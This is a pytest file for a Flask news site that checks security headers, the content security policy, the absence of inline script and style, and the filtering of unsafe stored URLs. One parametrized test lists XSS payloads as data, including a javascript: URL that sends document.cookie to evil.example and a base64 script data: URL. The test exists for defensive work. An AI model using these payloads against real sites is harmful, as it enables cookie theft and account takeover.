"""Every response carries the security headers; no inline script or style; no unsafe link out."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from flask import Flask
from flask.testing import FlaskClient
from lxml import html
from sqlalchemy import update
from werkzeug.test import TestResponse

from publisher.core import Desk
from publisher.db import Revision
from publisher.web.extensions import desk_of
from tests.builders import make_dispatch

TEMPLATES = Path(__file__).resolve().parents[1] / "templates"
MakeApp = Callable[..., Flask]

EXPECTED = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}
CSP_DIRECTIVES = {
    "default-src": "'self'",
    "script-src": "'self'",
    "style-src": "'self'",
    "img-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'none'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
}


def _directives(policy: str) -> dict[str, str]:
    parts = [part.strip().split(None, 1) for part in policy.split(";") if part.strip()]
    return {name: value for name, value in parts}


def assert_secure(response: TestResponse) -> None:
    for name, value in EXPECTED.items():
        assert response.headers.get(name) == value, (response.request.path, name)
    policy = response.headers.get("Content-Security-Policy")
    assert policy is not None, response.request.path
    assert _directives(policy) == CSP_DIRECTIVES
    assert "unsafe-inline" not in policy and "unsafe-eval" not in policy


def _stored_url(desk: Desk, dispatch_id: int, url: str) -> None:
    """Write ``url`` straight into the revision, as a database from before the ingest check."""
    with desk.store.session() as session:
        session.execute(update(Revision).where(Revision.dispatch_id == dispatch_id).values(url=url))
    desk.update_search_index()


@pytest.fixture
def story(web_desk: Desk) -> int:
    dispatch_id = make_dispatch(
        web_desk.store,
        topics=("Transport",),
        translations={"es": ("Nueva terminal", ["Busan abrió una terminal.", "Se espera más."])},
    )
    _stored_url(web_desk, dispatch_id, "https://example.org/news/ferry")
    return dispatch_id


def _paths(story: int) -> list[str]:
    return [
        "/en/",
        "/es/",
        f"/en/dispatch/{story}",
        f"/es/dispatch/{story}",
        "/en/digest/2025-11-12",
        "/en/search?q=terminal",
        "/en/feed.rss",
        "/en/feed.atom",
        "/en/feed.json",
        "/api/v1/languages",
        "/api/v1/dispatches?lang=en",
        f"/api/v1/dispatches/{story}?lang=es",
        "/api/v1/digests/2025-11-12?lang=en",
        "/api/v1/openapi.json",
    ]


def test_every_kind_of_response_carries_the_headers(client: FlaskClient, story: int) -> None:
    for path in _paths(story):
        response = client.get(path)
        assert response.status_code == 200, path
        assert_secure(response)


def test_errors_redirects_static_files_and_304s_carry_them(client: FlaskClient, story: int) -> None:
    answers = {
        "/en/dispatch/999999": 404,
        "/api/v1/dispatches/999999?lang=en": 404,
        "/api/v1/dispatches?lang=klingon": 400,
        "/nowhere": 308,
        "/en/nowhere/deeper": 404,
        "/": 302,
        "/static/site.css": 200,
        "/static/dispatch.js": 200,
        "/static/missing.js": 404,
    }
    for path, status in answers.items():
        with client.get(path, headers={"Accept-Language": "en"}) as response:
            assert response.status_code == status, path
            assert_secure(response)
    assert client.post("/en/").status_code == 405
    assert_secure(client.post("/en/"))
    for path in (f"/en/dispatch/{story}", "/en/feed.atom", "/api/v1/dispatches?lang=en"):
        first = client.get(path)
        again = client.get(path, headers={"If-None-Match": first.headers["ETag"]})
        assert again.status_code == 304, path
        assert_secure(again)


def test_a_server_error_carries_them(make_web_app: MakeApp) -> None:
    app = make_web_app(flask={"TESTING": False})

    def broken() -> str:
        raise ZeroDivisionError

    app.add_url_rule("/en/broken", view_func=broken)
    response = app.test_client().get("/en/broken")
    assert response.status_code == 500
    assert_secure(response)


def test_reader_pages_stay_publicly_cacheable(client: FlaskClient, story: int) -> None:
    for path in ("/en/", f"/en/dispatch/{story}", "/en/feed.rss"):
        for _attempt in range(2):  # rendered, then reused from the page cache
            response = client.get(path, headers={"Accept-Encoding": "gzip"})
            assert "public" in response.headers["Cache-Control"], path
            assert "no-store" not in response.headers["Cache-Control"]
            assert_secure(response)


_INLINE = re.compile(
    r"<script(?![^>]*\bsrc=)|<style\b|\sstyle\s*=|\son[a-z]+\s*=|javascript:", re.I
)


def test_templates_hold_no_inline_script_or_style() -> None:
    templates = sorted(TEMPLATES.rglob("*.html"))
    assert templates
    for template in templates:
        found = _INLINE.search(template.read_text(encoding="utf-8"))
        assert found is None, f"{template}: {found and found.group(0)!r}"


def test_rendered_pages_hold_no_inline_script_or_style(client: FlaskClient, story: int) -> None:
    for path in (p for p in _paths(story) if "/api/" not in p and "/feed." not in p):
        doc = html.fromstring(client.get(path).data)
        assert all(script.get("src") for script in doc.iter("script")), path
        assert not list(doc.iter("style")), path
        for element in doc.iter():
            if not isinstance(element.tag, str):
                continue
            names = {name.lower() for name in element.attrib}
            assert "style" not in names, (path, element.tag)
            assert not {n for n in names if n.startswith("on")}, (path, element.tag)


def _source_links(client: FlaskClient, story: int) -> list[str]:
    doc = html.fromstring(client.get(f"/en/dispatch/{story}").data)
    return [str(a.get("href")) for a in doc.iter("a") if a.text_content().strip() == "Source"]


def _emitted(client: FlaskClient, story: int) -> str:
    """Everything the site sends about the story, as one text."""
    paths = [p for p in _paths(story) if p != "/api/v1/openapi.json"]
    return "\n".join(client.get(path).get_data(as_text=True) for path in paths)


def test_an_http_source_url_is_linked_everywhere(client: FlaskClient, story: int) -> None:
    assert _source_links(client, story) == ["https://example.org/news/ferry"]
    api = json.loads(client.get(f"/api/v1/dispatches/{story}?lang=es").data)
    assert api["links"]["source"] == "https://example.org/news/ferry"
    assert api["original"]["url"] == "https://example.org/news/ferry"
    for extension in ("rss", "atom", "json"):
        assert "https://example.org/news/ferry" in client.get(f"/en/feed.{extension}").text


@pytest.mark.parametrize(
    "stored",
    [
        "javascript:fetch('https://evil.example/'+document.cookie)",
        " JavaScript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "java\tscript:alert(1)",
    ],
)
def test_a_stored_unsafe_url_is_never_emitted(
    web_app: Flask, client: FlaskClient, story: int, stored: str
) -> None:
    _stored_url(desk_of(web_app), story, stored)
    assert _source_links(client, story) == []
    api = json.loads(client.get(f"/api/v1/dispatches/{story}?lang=es").data)
    assert api["links"]["source"] is None
    assert api["original"]["url"] is None
    listing = json.loads(client.get("/api/v1/dispatches?lang=en").data)
    assert [item["links"]["source"] for item in listing["items"]] == [None]
    emitted = _emitted(client, story).casefold()
    for marker in ("javascript", "data:text", "vbscript", "base64"):
        assert marker not in emitted
